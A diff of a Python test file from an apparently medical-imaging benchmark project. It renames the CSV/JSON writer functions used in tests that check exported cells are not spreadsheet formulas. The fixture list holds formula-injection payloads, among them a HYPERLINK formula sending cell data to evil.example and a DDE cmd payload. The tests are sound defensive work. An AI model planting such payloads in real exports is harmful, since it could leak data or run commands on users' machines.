@@ -14,9 +14,10 @@ import pytest
 
 from m3b.bench.render import to_csv
 from m3b.bench.tables import ResultTable
-from m3b.cli.predict import _write_entries
+from m3b.cli.prediction_output import write_table
 from m3b.models.export.monai_bundle import as_data, make_metadata
 from m3b.models.model_card import escape_markdown
+from m3b.models.prediction_store import write_json
 from m3b.writing import csv_cell, escape_control_codes, json_text, to_one_line
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"ok")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
@@ -127,7 +128,7 @@ def prediction(image: str, name: str) -> dict[str, Any]:
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_no_cell_of_predictions_is_a_formula(tmp_path: Path, text: str) -> None:
-    _write_entries([prediction(text, text)], tmp_path / "x.csv")
+    write_table([prediction(text, text)], tmp_path / "x.csv")
     with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
         head, row = list(csv.reader(file))
     cells = [cell for cell in (*head, *row) if not re.fullmatch(r"-?[\d.]+", cell)]
@@ -159,7 +160,7 @@ def test_no_cell_of_a_benchmark_is_a_formula(text: str) -> None:
 @pytest.mark.parametrize("ending", [".csv", ".json"])
 def test_control_codes_and_odd_bytes_are_escaped_in_files(tmp_path: Path, name: str, ending: str) -> None:
     file = tmp_path / f"x{ending}"
-    _write_entries([prediction(f"{name}.png", name)], file)
+    (write_json if ending == ".json" else write_table)([prediction(f"{name}.png", name)], file)
     text = file.read_text(encoding="utf-8")
     assert not [sign for sign in text if sign != "\r" and escape_control_codes(sign) != sign]
     if ending == ".json":
